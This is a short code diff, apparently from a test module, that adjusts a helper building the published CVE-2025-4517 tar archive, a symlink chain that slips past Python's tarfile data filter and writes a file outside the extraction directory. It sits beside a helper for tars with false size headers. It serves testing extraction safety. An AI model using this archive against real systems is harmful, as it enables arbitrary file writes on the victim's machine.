@@ -68,16 +68,17 @@ def lying_size_tar(name: str, claimed: int, actual: bytes) -> bytes:
     return gzip.compress(info.tobuf(tarfile.USTAR_FORMAT) + body + b"\0" * 1024)
 
 
-def cve_2025_4517_chain(up: int, into: str) -> list[tarfile.TarInfo]:
+def cve_2025_4517_chain(up: int, into: str, dest_len: int = 60) -> list[tarfile.TarInfo]:
     """The published CVE-2025-4517 archive, aimed at `../` * `up` + `into`.
 
-    Sixteen nested 247-character directories, each beside a one-letter symlink to it; a
-    254-character symlink at the end of the one-letter path that climbs back to the top. Their
-    resolved path is longer than PATH_MAX, so `realpath` stops resolving and the `data` filter
-    judges `escape` (which climbs one step more than the chain) lexically, as inside; the kernel
-    follows it outside, and `escape/pwned` is written there.
+    Sixteen nested long-named directories (247 characters in the public proof, shorter when the
+    destination path `dest_len` is long, so each directory still fits in PATH_MAX), each beside a
+    one-letter symlink to it; a 254-character symlink at the end of the one-letter path that
+    climbs back to the top. That symlink's resolved path is longer than PATH_MAX, so `realpath`
+    stops resolving and the `data` filter judges `escape` (which climbs `up` steps past the top)
+    lexically, as inside; the kernel follows it outside, and `escape/pwned` is written there.
     """
-    comp, steps = "d" * 247, "abcdefghijklmnop"
+    comp, steps = "d" * min(247, (4000 - dest_len) // 16 - 1), "abcdefghijklmnop"
     members, path = [], ""
     for step in steps:
         members.append(directory(f"{path}{comp}"))
